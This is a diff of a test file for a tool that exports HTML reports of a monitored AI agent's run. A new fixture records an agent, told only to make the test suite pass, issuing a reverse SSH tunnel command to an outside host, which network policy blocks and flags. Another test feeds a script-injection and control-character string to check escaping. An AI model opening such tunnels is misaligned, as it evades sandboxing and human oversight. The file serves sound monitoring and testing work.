@@ -236,9 +236,30 @@ describe("ale guard export", () => {
     expect(page).toContain(sha256(await readFile(json)));
   });
 
+  it("says what the rule looks for, what the task was, and what happened on one clock", async () => {
+    const { html } = await exported();
+    const page = await readFile(html, "utf8");
+    expect(page).toContain("<h1>An SSH client or server speaks where nothing may pass</h1>");
+    expect(page).toContain("The capture sink read an SSH banner of a connection that policy refused.");
+    expect(page).toContain('<p class="instruction">make the test suite pass</p>');
+    const words = (lane: string) =>
+      [...page.matchAll(new RegExp(`<li class="of-${lane}">.*?<span class="what">(.*?) <small>`, "g"))].map(
+        (match) => match[1],
+      );
+    expect(words("command")).toEqual(["bash: ssh -fN -R 2222:localhost:22 root@198.51.100.7; echo done"]);
+    expect(words("packet")).toEqual([
+      "net.connect tcp 198.51.100.7:22",
+      "net.deny tcp 198.51.100.7:22 (default)",
+      "net.capture tcp 198.51.100.7:22 (ssh)",
+    ]);
+    expect(words("alert")).toEqual(["tunnel-ssh, critical", "ssh-tunnel, high"]);
+    for (const lane of ["command", "record", "packet", "alert", "answer"])
+      expect(page.match(new RegExp(`<g class="moment of-${lane}">`, "g")), lane).toHaveLength(2);
+  });
+
   it("escapes what the agent wrote", async () => {
     const home = await temporaryHome();
-    const evil = `</pre><script>alert(1)</script><a href="data:application/json;base64,AAAA">x</a>\u202e`;
+    const evil = `</pre><script>alert(1)</script><a href="data:application/json;base64,AAAA">x</a>\u202e\u001b[2J\u200b`;
     const turn = turnOf(0, evil, evil, { text: evil });
     await record(home, "r", "ep_x", [
       [0, beginOf("ep_x", T0, "r")],
@@ -250,7 +271,8 @@ describe("ale guard export", () => {
     const file = join(home, "e.html");
     await ale(home, "guard", "export", "last", "--out", file);
     const page = await readFile(file, "utf8");
-    expect(page).not.toMatch(/<script|\u202e/);
+    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
+    expect(page).not.toMatch(/<script|[\u0000-\u0008\u000b-\u001f\u007f\u200b\u202e]|unreadable/);
     expect(page).toContain("&lt;script&gt;alert(1)");
     expect((await findings(home, file)).exitCode).toBe(EXIT.ok);
   });
